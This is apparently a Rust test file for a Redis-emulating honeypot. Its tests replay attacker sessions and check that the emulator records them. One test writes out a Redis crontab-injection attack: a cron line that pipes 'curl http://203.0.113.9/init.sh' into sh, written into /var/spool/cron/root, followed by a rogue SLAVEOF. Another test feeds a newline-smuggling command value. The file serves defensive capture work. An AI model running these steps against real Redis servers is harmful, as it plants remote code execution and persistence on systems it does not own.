use super::{Talk, parse};
use crate::amplification::Persona;
use crate::iot::dialogue::{Ends, Finished};
use crate::iot::house::Talking;
use crate::iot::{Device, Limits};
use noroshi_model::Nanos;

const NOW: Nanos = Nanos(1_767_225_600_000_000_000);

fn talk(seed: u64) -> Box<Talk> {
    let address: noroshi_model::Addr = "192.0.2.7".parse().unwrap();
    let ends = Ends { sensor: "s".into(), src: address, sport: 4_000, dst: address, dport: 6_379, protocol: "redis" };
    let device = Device::shipped("recorder").unwrap().dress(&Persona::new(seed));
    Box::new(Talk::new(device, Limits::default(), &ends, "1".into(), NOW))
}

fn command(words: &[&str]) -> Vec<u8> {
    let mut bytes = format!("*{}\r\n", words.len()).into_bytes();
    words.iter().for_each(|word| bytes.extend(format!("${}\r\n{word}\r\n", word.len()).bytes()));
    bytes
}

fn ask(talk: &mut Talk, words: &[&str]) -> String {
    String::from_utf8(talk.feed(&command(words), NOW).bytes).unwrap()
}

#[test]
fn a_crontab_smuggled_in_is_a_file_with_its_place() {
    let mut talk = talk(1);
    assert_eq!(ask(&mut talk, &["PING"]), "+PONG\r\n");
    assert_eq!(ask(&mut talk, &["FLUSHALL"]), "+OK\r\n");
    let line = "\n\n*/2 * * * * curl -fsSL http://203.0.113.9/init.sh | sh\n\n";
    assert_eq!(ask(&mut talk, &["SET", "backup1", line]), "+OK\r\n");
    assert_eq!(ask(&mut talk, &["config", "set", "dir", "/var/spool/cron/"]), "+OK\r\n");
    assert_eq!(ask(&mut talk, &["config", "set", "dbfilename", "root"]), "+OK\r\n");
    assert_eq!(ask(&mut talk, &["CONFIG", "GET", "dir"]), "*2\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n");
    assert_eq!(ask(&mut talk, &["SAVE"]), "+OK\r\n");
    assert_eq!(ask(&mut talk, &["SLAVEOF", "203.0.113.10", "8886"]), "+OK\r\n");
    assert!(ask(&mut talk, &["INFO"]).contains("role:slave\r\nmaster_host:203.0.113.10"));
    let Finished { session, samples, .. } = talk.finish(NOW);
    assert_eq!(session.urls, ["http://203.0.113.9/init.sh", "redis://203.0.113.10:8886"]);
    assert_eq!((&*samples[0].path, session.hashes.len()), ("/var/spool/cron/root", 1));
    assert!(samples[0].content.windows(4).any(|part| part == b"curl"));
}

#[test]
fn lines_pieces_and_nonsense() {
    let mut talk = talk(1);
    assert_eq!(talk.feed(b"set a 1\r\nget a\r\n", NOW).bytes, b"+OK\r\n$1\r\n1\r\n");
    for byte in &command(&["get", "a"])[..] {
        let said = talk.feed(&[*byte], NOW);
        assert!(said.bytes.is_empty() || said.bytes == b"$1\r\n1\r\n");
    }
    assert!(ask(&mut talk, &["HELLO", "3"]).starts_with("-ERR unknown command 'HELLO'"));
    assert!(ask(&mut talk, &["system.exec\r\n+OK", "id"]).matches('\n').count() == 1, "no second line is smuggled in");
    assert!(talk.feed(b"*99999\r\n", NOW).close);
    assert_eq!(parse(b"*-1\r\n"), Ok(Some((Vec::new(), 5))));
    assert!(parse(b"*1\r\n$-5\r\n").is_err() && parse(b"*1\r\n:1\r\n").is_err());
    assert!(parse(&[b'a'; 70_000]).is_err());
}

#[test]
fn memory_stays_in_its_bounds() {
    let mut talk = talk(1);
    let value = "x".repeat(400 << 10);
    assert_eq!(ask(&mut talk, &["set", "a", &value]), "+OK\r\n");
    assert_eq!(ask(&mut talk, &["set", "b", &value]), "+OK\r\n");
    assert!(ask(&mut talk, &["set", "c", &value]).starts_with("-OOM"));
    assert!(talk.finish(NOW).session.truncated);
}

#[test]
fn many_questions_in_one_piece_are_answered_as_far_as_there_is_room() {
    let mut talk = talk(1);
    ask(&mut talk, &["SET", "a", &"x".repeat(500_000)]);
    let reply = talk.feed(&b"get a\n".repeat(4_000), NOW);
    assert!(reply.close, "the dialogue goes on");
    assert!(reply.bytes.len() < 2 * Limits::default().bytes_out as usize, "{} bytes at once", reply.bytes.len());
    assert!(talk.finish(NOW).session.truncated);
}
